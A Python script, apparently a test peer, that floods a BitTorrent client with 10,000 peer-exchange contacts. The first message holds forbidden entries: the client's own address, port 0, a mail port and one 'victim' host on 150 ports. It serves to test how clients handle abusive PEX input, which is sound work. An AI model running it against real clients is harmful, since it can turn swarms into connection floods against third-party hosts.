#!/usr/bin/env python3
"""A peer that abuses peer exchange (BEP 11): five messages of 2,000 contacts at once, 10,000 in all.

Usage: pex_flood.py ADDRESS PORT INFO_HASH CALLER VICTIM
The first message begins with what is forbidden: the caller's own address, port 0, the victim with 150 ports, a mail port.
Prints "sent" after the last message and "closed" when the caller hangs up.
"""
import ipaddress
import socket
import struct
import sys

address, port, info_hash, caller, victim = sys.argv[1], int(sys.argv[2]), bytes.fromhex(sys.argv[3]), sys.argv[4], sys.argv[5]


def contact(host, number):
    return ipaddress.ip_address(host).packed + struct.pack(">H", number)


def decoy(n):
    return contact(f"11.{100 + n // 250}.{n % 250}.2", 6881)


def read(connection, length):
    data = b""
    while len(data) < length:
        more = connection.recv(length - len(data))
        if not more:
            raise SystemExit("hung up early")
        data += more
    return data


def frame(number, payload):
    return struct.pack(">IBB", len(payload) + 2, 20, number) + payload


listener = socket.create_server((address, port))
connection, _ = listener.accept()
read(connection, 68)
connection.sendall(b"\x13BitTorrent protocol" + bytes([0, 0, 0, 0, 0, 0x10, 0, 0]) + info_hash + b"-XX0000-floodfloodfl")
connection.sendall(frame(0, b"d1:md6:ut_pexi3ee1:pi%dee" % port))
pex = None
while pex is None:
    length, = struct.unpack(">I", read(connection, 4))
    message = read(connection, length)
    if message[:2] == b"\x14\x00":
        pex = int(message.split(b"6:ut_pexi", 1)[1].split(b"e", 1)[0])
forbidden = [contact(caller, port), contact("11.99.0.1", 0), contact("11.99.0.2", 25)]
forbidden += [contact(victim, 2_000 + n) for n in range(150)]
contacts = forbidden + [decoy(n) for n in range(10_000 - len(forbidden))]
for first in range(0, 10_000, 2_000):
    added = b"".join(contacts[first:first + 2_000])
    connection.sendall(frame(pex, b"d5:added%d:" % len(added) + added + b"e"))
print("sent", flush=True)
while connection.recv(65_536):
    pass
print("closed", flush=True)
